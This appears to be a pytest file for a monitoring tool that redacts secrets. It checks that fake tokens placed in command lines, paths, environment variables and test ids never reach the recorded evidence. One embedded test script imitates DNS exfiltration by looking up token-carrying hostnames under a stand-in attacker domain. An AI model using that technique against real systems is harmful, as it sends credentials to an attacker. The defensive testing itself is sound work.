"""The evidence of a real run holds no secret, wherever the command puts it."""

import json
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import cast

import pytest

from support.watching import Watched, watch

Watch = Callable[..., Watched]

SHAPES = Path(__file__).parents[2] / "unit/sanitise/data/secrets.jsonl"
SECRETS = {
    "@S@": "Zx9Qw3Er7Ty1Uo5P",
    "@H@": "0123456789abcdef0123456789abcdef01234567",
    "@U@": "ZX9QW3ER7TY1UO5P",
    "@P@": "hunter2",
    "@L@": "correcthorsebattery",
    "@V@": "Zx9Qw3Er7Ty1Uo5PZx9Qw3Er",
}
# Each command for real, as far as anybody sees from outside: it does nothing.
EXECUTE = """
import json, subprocess, sys
secrets = json.loads(sys.stdin.readline())
for line in sys.stdin:
    argv = json.loads(line)["argv"]
    for mark, secret in secrets.items():
        argv = [word.replace(mark, secret) for word in argv]
    subprocess.run(argv, executable="/bin/true", check=True)
"""


@pytest.fixture
def texts() -> Callable[[Watched], list[str]]:
    """Return every text of a run's records."""

    def walk(value: object) -> Iterator[str]:
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for item in cast("dict[str, object]", value).values():
                yield from walk(item)
        elif isinstance(value, list):
            for item in cast("list[object]", value):
                yield from walk(item)

    return lambda run: [text for record in run.records for text in walk(record)]


def test_no_shape_of_a_secret_on_a_command_line_is_recorded(tmp_path: Path) -> None:
    rows = SHAPES.read_text()
    (tmp_path / "rows").write_text(json.dumps(SECRETS) + "\n" + rows)
    (tmp_path / "execute.py").write_text(EXECUTE)

    run = watch(
        tmp_path, "sh", "-c", f"exec {sys.executable} execute.py <rows", policy=None
    )

    assert run.status == 0, run.stderr
    executed = [one for one in run.of("process", event="exec") if one["argv"]]
    assert len(executed) >= len(rows.splitlines())
    evidence = (tmp_path / "evidence.jsonl").read_text()
    leaked = [secret for secret in SECRETS.values() if secret in evidence]
    assert leaked == []
    assert "AKIAIOSFODNN7EXAMPLE" not in evidence


CLIENT = """
import os, socket
os.environ["PYTEST_CURRENT_TEST"] = (
    "tests/test_x.py::test_login[ghp_" + "a" * 36 + "] (call)")
# The kernel keeps the environment of the exec: a new one.
if "AGAIN" not in os.environ:
    os.environ["AGAIN"] = "1"
    os.execv("./prog", ["prog", *__import__("sys").argv])
socket.socket().connect_ex(("127.0.0.1", 9))
name = "/srv/token=sk-ant-api03-" + "b" * 20 + "/x.py"
code = "import socket; socket.socket().connect_ex(('127.0.0.1', 9))"
exec(compile(code, name, "exec"))
for end in "de":
    try:
        socket.gethostbyname("ghp-" + "c" * 28 + end + ".evil.example.test")
    except OSError:
        pass
"""


def test_names_paths_and_test_ids_hold_no_token_and_stay_apart(
    watched: Watch, tmp_path: Path, texts: Callable[[Watched], list[str]]
) -> None:
    folder = tmp_path / ("token=glpat-" + "d" * 20)
    folder.mkdir()
    (folder / "t.py").write_text(CLIENT)
    (folder / "prog").symlink_to(sys.executable)
    policy = 'version = 1\nenforce = "fail"\n'

    run = watched(*("sh", "-c", f"cd {folder} && exec ./prog t.py"), policy=policy)

    assert run.status == 120, run.stderr
    tokens = ("ghp_aaaa", "sk-ant-api03-bbbb", "ghp-cccc", "glpat-dddd")
    everything = "\n".join(texts(run)) + run.stderr
    assert [token for token in tokens if token in everything] == []
    asked = {
        one["name"]
        for one in run.of("dns")
        if one["name"].endswith(".evil.example.test")
    }
    # Two names before, two after; and each says where the data would have gone.
    assert len(asked) == 2
    tests = {one["code"]["test"] for one in run.of("connection") if one["code"]}
    assert "tests/test_x.py::test_login[***] (call)" in tests
    files = {one["code"]["file"] for one in run.of("connection") if one["code"]}
    assert "/srv/token=***/x.py" in files


def test_the_working_directory_and_the_policys_path_hold_no_token(
    tmp_path: Path,
) -> None:
    folder = tmp_path / ("token=glpat-" + "d" * 20)
    folder.mkdir()

    run = watch(folder, "true", policy="version = 1\n")

    (start,) = run.of("run.start")
    for field in ("cwd", "policy"):
        assert "glpat-dddd" not in start[field]
        assert "/token=***" in start[field]
        assert start[field].startswith(str(tmp_path))


@pytest.mark.parametrize(
    ("mode", "command", "argv"),
    [
        ("none", [], []),
        ("program", ["sh"], ["/bin/echo"]),
        ("masked", None, ["/bin/echo", "-x", "hello"]),
    ],
)
def test_less_of_command_lines_is_recorded_on_demand(
    tmp_path: Path, mode: str, command: list[str] | None, argv: list[str]
) -> None:
    words = ("sh", "-c", "/bin/echo -x hello; true")

    run = watch(tmp_path, *words, options=("--argv", mode))

    (start,) = run.of("run.start")
    assert start["argv"] == mode
    assert start["command"] == (list(words) if command is None else command)
    (echo,) = (one for one in run.of("process", event="exec") if one["comm"] == "echo")
    assert echo["argv"] == argv
    assert echo["argv_cut"] is (mode != "masked")
